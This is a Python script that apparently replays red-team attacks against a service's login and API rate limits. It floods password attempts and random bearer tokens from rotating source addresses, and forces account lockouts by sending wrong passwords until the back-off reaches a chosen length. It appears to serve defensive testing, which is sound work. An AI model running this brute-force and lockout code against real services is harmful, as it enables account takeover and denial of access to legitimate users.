# Many requests, fast, each from a chosen source address: what the red
# team's attacks sent. One request per line on stdin, one answer per line
# on stdout: "STATUS RETRY_AFTER TOKEN", "-" where there is none.
#   flood.py login URL [CAFILE]    lines: ADDR USER PASSWORD
#   flood.py bearer URL [CAFILE]   lines: ADDR   (a made-up token)
#   flood.py lockout URL SECONDS [CAFILE]   lines: ADDR USER
# lockout sends wrong passwords, the lines over and over, waiting out
# each back-off, until one lasts SECONDS or more; it prints that answer
# and exits 0, or 1 if none came in 500 tries.
# A connection per address is kept while the server keeps it open.
import http.client, itertools, secrets, ssl, sys, time, urllib.parse

mode, url = sys.argv[1], urllib.parse.urlsplit(sys.argv[2])
want = int(sys.argv.pop(3)) if mode == "lockout" else 0
cafile = sys.argv[3] if len(sys.argv) > 3 else None
conns = {}


def connection(addr):
    c = conns.get(addr)
    if c is None:
        if url.scheme == "https":
            ctx = ssl.create_default_context(cafile=cafile)
            c = http.client.HTTPSConnection(url.hostname, url.port,
                                            source_address=(addr, 0),
                                            context=ctx, timeout=60)
        else:
            c = http.client.HTTPConnection(url.hostname, url.port,
                                           source_address=(addr, 0),
                                           timeout=60)
        conns[addr] = c
    return c


def ask(addr, method, path, body=None, headers=None):
    for attempt in (0, 1):
        c = connection(addr)
        try:
            c.request(method, path, body=body, headers=headers or {})
            r = c.getresponse()
            r.read()
            return r
        except (ConnectionError, http.client.RemoteDisconnected):
            c.close()
            if attempt:
                raise


def token(r):
    cookie = r.getheader("Set-Cookie") or ""
    if cookie.startswith("vmediad_session="):
        return cookie.split(";")[0].split("=", 1)[1] or "-"
    return "-"


def login(addr, user, password):
    body = '{"username": "%s", "password": "%s"}' % (user, password)
    return ask(addr, "POST", "/api/login", body,
               {"Content-Type": "application/json"})


def answer(r):
    return "%d %s %s" % (r.status, r.getheader("Retry-After") or "-",
                         token(r))


def lockout(lines):
    for n, (addr, user) in enumerate(itertools.cycle(lines)):
        if n == 500:
            sys.exit(1)
        r = login(addr, user, "wrong%d" % n)
        if r.status == 429:
            wait = int(r.getheader("Retry-After"))
            if wait >= want:
                print(answer(r))
                sys.exit(0)
            time.sleep(wait)


lines = [l.split() for l in sys.stdin if l.strip()]
if mode == "lockout":
    lockout(lines)
for words in lines:
    if mode == "login":
        r = login(*words)
    else:
        r = ask(words[0], "GET", "/api/exports", None,
                {"Authorization": "Bearer " + secrets.token_hex(32)})
    print(answer(r))
